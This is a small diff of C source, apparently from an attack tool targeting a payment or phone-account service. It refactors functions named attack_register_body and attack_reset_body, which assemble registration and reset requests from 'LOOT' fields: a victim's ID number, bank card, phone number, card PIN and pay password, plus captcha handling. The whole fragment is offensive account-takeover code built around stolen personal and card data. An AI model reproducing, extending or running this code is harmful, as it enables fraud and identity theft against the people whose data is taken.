@@ -214,8 +214,14 @@ void attack_reset_body(phone *p, const char *user, const char *pay_password, cha
 
 void attack_register_body(phone *p, const char *card_pin, char *out, size_t size)
 {
-    char text[80], numbers[700], secret[700], device[500], captcha[120];
-    snprintf(text, sizeof text, "%s %s %s", LOOT.he_id_no, LOOT.he_card, LOOT.he_phone);
+    char numbers[80];
+    snprintf(numbers, sizeof numbers, "%s %s %s", LOOT.he_id_no, LOOT.he_card, LOOT.he_phone);
+    attack_register_body_of(p, numbers, card_pin, out, size);
+}
+
+void attack_register_body_of(phone *p, const char *text, const char *card_pin, char *out, size_t size)
+{
+    char numbers[700], secret[700], device[500], captcha[120];
     attack_captcha(p, captcha);
     phone_secret(p, text, 6, numbers, sizeof numbers);
     phone_secret(p, card_pin, 4, secret, sizeof secret);
